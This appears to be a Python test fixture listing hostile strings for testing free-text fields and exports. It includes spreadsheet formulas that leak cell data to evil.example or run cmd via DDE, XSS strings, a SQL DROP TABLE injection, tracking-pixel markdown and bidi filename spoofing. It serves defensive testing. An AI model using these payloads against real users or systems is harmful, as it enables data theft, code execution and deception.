"""Hostile text: what a person or an imported file may put in any free-text field.

Used by the page test over every page, the export tests and ``bench/bench_hostile_text.py``.
Each payload tries one thing: run a script, inject HTML, load a remote image, make a link,
imitate a system alert with colours and icons, become a spreadsheet formula, hide or reorder
characters, or be simply too long. ``FORMULAS`` are the ones a spreadsheet would run.
"""

from __future__ import annotations

FORMULAS: tuple[str, ...] = (
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Cliquez ici\")",
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+33 1 23 45 67 89",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
    "=WEBSERVICE(\"http://evil.example/\")",
    "\t=1+1",
    "\r=1+1",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "-1",
)

MARKDOWN: tuple[str, ...] = (
    "![pixel](http://127.0.0.1:9/pixel.png)",
    "![](http://127.0.0.1:9/pixel.png) Boulangerie",
    "[Cliquez ici](http://evil.example)",
    "[ok](javascript:alert(1))",
    "<http://evil.example/autolien>",
    "http://evil.example/nu",
    "www.evil.example",
    "contact@evil.example",
    ":red[ALERTE SÉCURITÉ] votre compte est bloqué",
    ":material/warning: Mise à jour obligatoire",
    ":blue-background[Message officiel]",
    ":smile: :rocket:",
    "# Titre géant",
    "## Sous-titre",
    "**gras** et _italique_ et ~~barré~~",
    "`code` et ```bloc```",
    "> citation trompeuse",
    "1. liste\n2. numérotée",
    "- puce\n- puce",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "Texte\n\n---\n\nAprès une ligne",
    "Titre\n===",
    "$x^2$ et $$\\int f$$",
    "    bloc de code indenté",
    "\\*pas gras\\*",
    "[lien][ref]\n\n[ref]: http://evil.example",
    "&#x202E;entité&amp;",
)

HTML: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe src=\"http://evil.example\"></iframe>",
    "<a href=\"http://evil.example\">lien</a>",
    "<b>gras</b><i>it</i>",
    "\"><script>alert(1)</script>",
    "'; DROP TABLE offers; --",
    "<style>body{display:none}</style>",
    "javascript:alert(document.cookie)",
)

CONTROL: tuple[str, ...] = (
    "Boulangerie\x00 du bourg",
    "Bip\x07 et retour\x08 arrière",
    "Tab\tet saut\x0bvertical\x0cpage",
    "Échap\x1b[31m rouge",
    "\u202eesuom al ed enoz",
    "fichier\u202egpj.exe",
    "Isolat \u2066inversé\u2069",
    "Ligne\r\nWindows",
    "DEL\x7f et C1\x85\x9b",
    "Sans\u200bespace\u200dvisible",
)

LONG: tuple[str, ...] = (
    "Très long " * 10_000,  # 100 000 characters
    "=" + "A" * 100_000,
    "![x](http://127.0.0.1:9/p.png)" * 3_000,
)

PAYLOADS: tuple[str, ...] = FORMULAS + MARKDOWN + HTML + CONTROL + LONG

assert len(PAYLOADS) >= 50, len(PAYLOADS)
assert len(set(PAYLOADS)) == len(PAYLOADS)
